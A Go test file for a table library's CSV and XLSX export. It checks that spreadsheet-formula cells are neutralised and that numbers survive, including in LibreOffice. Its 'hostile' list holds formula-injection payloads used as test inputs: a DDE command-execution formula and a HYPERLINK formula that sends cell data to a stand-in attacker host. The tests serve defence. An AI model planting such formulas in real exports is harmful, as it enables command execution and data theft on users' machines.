package table_test

import (
	"bytes"
	"encoding/csv"
	"math"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/apache/arrow-go/v18/arrow/memory"
	"github.com/xuri/excelize/v2"

	"github.com/offshore-ma/offshore/pipeline/table"
)

// hostile are operators' texts a spreadsheet would open as formulas.
var hostile = []string{
	`=cmd|'/c calc'!A1`,
	`=HYPERLINK("http://evil.example/?x="&A1,"clic")`,
	"+1+1",
	"-1+1",
	"@SUM(1,1)",
	"\t=1+1",
	"\r=1+1",
	"plain text",
	"",
}

// hostileTable is a table of hostile texts, with a negative number and a
// negative decimal in numeric columns (numbers, not text: left as they are).
func hostileTable(t *testing.T, mem memory.Allocator) *table.Table {
	t.Helper()
	tb := table.New(mem)
	name, n, x := tb.String("name"), tb.Int64("n"), tb.Float64("x")
	for i, h := range hostile {
		name.Append(h)
		n.Append(int64(-i))
		x.Append(1.5 * float64(-i))
		if err := tb.EndRow(); err != nil {
			t.Fatal(err)
		}
	}
	return tb
}

func TestNeutralise(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"=1+1", "'=1+1"}, {"+1", "'+1"}, {"-1", "'-1"}, {"@A1", "'@A1"}, {"\tx", "'\tx"}, {"\rx", "'\rx"},
		{"", ""}, {"ok", "ok"}, {" =1", " =1"}, {"'=1", "'=1"}, {"CRM", "CRM"}, {"2018Q4", "2018Q4"},
	} {
		if got := table.Neutralise(tt.in); got != tt.want {
			t.Errorf("Neutralise(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// The French dialect: BOM, semicolons, decimal comma; text neutralised,
// numbers (negative ones too) left as numbers, in both dialects.
func TestCSVDialects(t *testing.T) {
	for _, tt := range []struct {
		f           table.Format
		bom         bool
		sep         rune
		x2          string // row 2's x: -1.5
		header, row string
	}{
		{table.French, true, ';', "-1,5", "name;n;x", `'=cmd|'/c calc'!A1;0;0`},
		{table.Format{Name: "csv", Sep: ','}, false, ',', "-1.5", "name,n,x", `'=cmd|'/c calc'!A1,0,0`},
		{table.Format{Name: "csv"}, false, ',', "-1.5", "name,n,x", `'=cmd|'/c calc'!A1,0,0`},
	} {
		t.Run(string(tt.sep), func(t *testing.T) {
			mem := memory.NewCheckedAllocator(memory.NewGoAllocator())
			defer mem.AssertSize(t, 0)
			tb := hostileTable(t, mem)
			var b bytes.Buffer
			_, err := tb.WriteFormat(&b, tt.f)
			tb.Release()
			if err != nil {
				t.Fatal(err)
			}
			got := b.String()
			if strings.HasPrefix(got, "\ufeff") != tt.bom {
				t.Errorf("BOM: %v, want %v", strings.HasPrefix(got, "\ufeff"), tt.bom)
			}
			lines := strings.Split(strings.TrimPrefix(got, "\ufeff"), "\n")
			if lines[0] != tt.header || lines[1] != tt.row {
				t.Errorf("first lines %q %q, want %q %q", lines[0], lines[1], tt.header, tt.row)
			}
			r := csv.NewReader(strings.NewReader(strings.TrimPrefix(got, "\ufeff")))
			r.Comma = tt.sep
			recs, err := r.ReadAll()
			if err != nil || len(recs) != len(hostile)+1 {
				t.Fatalf("read back: %d records, %v", len(recs), err)
			}
			for i, h := range hostile {
				if recs[i+1][0] != table.Neutralise(h) {
					t.Errorf("row %d: %q, want %q", i+1, recs[i+1][0], table.Neutralise(h))
				}
			}
			if recs[2][1] != "-1" || recs[2][2] != tt.x2 {
				t.Errorf("row 2 numbers %q %q, want -1 and %s: a number stays a number", recs[2][1], recs[2][2], tt.x2)
			}
		})
	}
	if err := (table.Format{Name: "csv", Sep: '\t'}).Check(); err == nil {
		t.Error("a tab separator was accepted")
	}
}

// checkXLSX reads the sample's workbook back: numbers as numbers, text as
// text, nulls empty.
func checkXLSX(t *testing.T, b []byte) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("Données")
	if err != nil || len(rows) != len(samples)+1 {
		t.Fatalf("rows: %d, %v", len(rows), err)
	}
	if strings.Join(rows[0], ",") != "name,n,x,ok,at,counted" {
		t.Errorf("header %q", rows[0])
	}
	for k, s := range samples {
		if rows[k+1][0] != s.name {
			t.Errorf("row %d: name %q, want %q", k+2, rows[k+1][0], s.name)
		}
	}
	typ, _ := f.GetCellType("Données", "C2")
	if v, _ := f.GetCellValue("Données", "C2"); v != "1.5" || typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
		t.Errorf("C2 = %q (type %v), want the number 1.5", v, typ)
	}
	if v, _ := f.GetCellValue("Données", "C3"); v != "" || math.IsNaN(samples[1].x) == false {
		t.Errorf("C3 = %q, want empty (NaN is null)", v)
	}
}

// A CSV with hostile cells, written by us and opened by LibreOffice (which
// converts it to xlsx), holds no formula: checked with openpyxl.
func TestCSVOpensWithoutFormulas(t *testing.T) {
	soffice := ""
	for _, name := range []string{"soffice", "libreoffice"} {
		if p, err := exec.LookPath(name); err == nil {
			soffice = p
			break
		}
	}
	if soffice == "" {
		t.Skip("libreoffice not installed (soffice and libreoffice are not on PATH): .ci/run installs libreoffice-calc")
	}
	python := "/usr/bin/python3"
	if err := exec.Command(python, "-c", "import openpyxl").Run(); err != nil {
		t.Skipf("%s cannot import openpyxl (python3-openpyxl): %v", python, err)
	}
	if testing.Short() {
		t.Skip("-short: LibreOffice takes a few seconds")
	}
	dir := t.TempDir()
	for _, tt := range []struct {
		name   string
		f      table.Format
		filter string // LibreOffice's CSV filter options: separator, quote, charset (76: UTF-8), first line, column formats, language
	}{
		{"fr", table.French, "CSV:59,34,76,1,,1036"}, // 1036: French (France), whose decimal separator is the comma
		{"plain", table.Format{Name: "csv"}, "CSV:44,34,76,1"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			tb := hostileTable(t, nil)
			var b bytes.Buffer
			_, err := tb.WriteFormat(&b, tt.f)
			tb.Release()
			if err != nil {
				t.Fatal(err)
			}
			src := filepath.Join(dir, tt.name+".csv")
			if err := os.WriteFile(src, b.Bytes(), 0o644); err != nil {
				t.Fatal(err)
			}
			cmd := exec.Command(soffice, "-env:UserInstallation=file://"+filepath.Join(dir, "profile"), "--headless",
				"--infilter="+tt.filter, "--convert-to", "xlsx", "--outdir", dir, src)
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("soffice: %v\n%s", err, out)
			}
			// Every cell: its coordinate, whether it is a formula (openpyxl
			// reads a formula cell's value as "=…" with data_type "f"), its value.
			script := `import sys, openpyxl
ws = openpyxl.load_workbook(sys.argv[1]).active
for row in ws.iter_rows():
    for c in row:
        print(c.coordinate, c.data_type, repr(c.value))`
			out, err := exec.Command(python, "-c", script, filepath.Join(dir, tt.name+".xlsx")).CombinedOutput()
			if err != nil {
				t.Fatalf("openpyxl: %v\n%s", err, out)
			}
			cells := strings.Split(strings.TrimSpace(string(out)), "\n")
			if len(cells) < 3*len(hostile) {
				t.Fatalf("LibreOffice's workbook has %d cells:\n%s", len(cells), out)
			}
			for _, c := range cells {
				if f := strings.Fields(c); len(f) >= 2 && f[1] == "f" {
					t.Errorf("a formula in LibreOffice's workbook: %s", c)
				}
			}
			// The negative numbers are numbers (data type n), not text.
			if !strings.Contains(string(out), "B3 n -1") || !strings.Contains(string(out), "C3 n -1.5") {
				t.Errorf("row 3's numbers are not the numbers -1 and -1.5:\n%s", out)
			}
			t.Logf("LibreOffice read %d cells, no formula", len(cells))
		})
	}
}
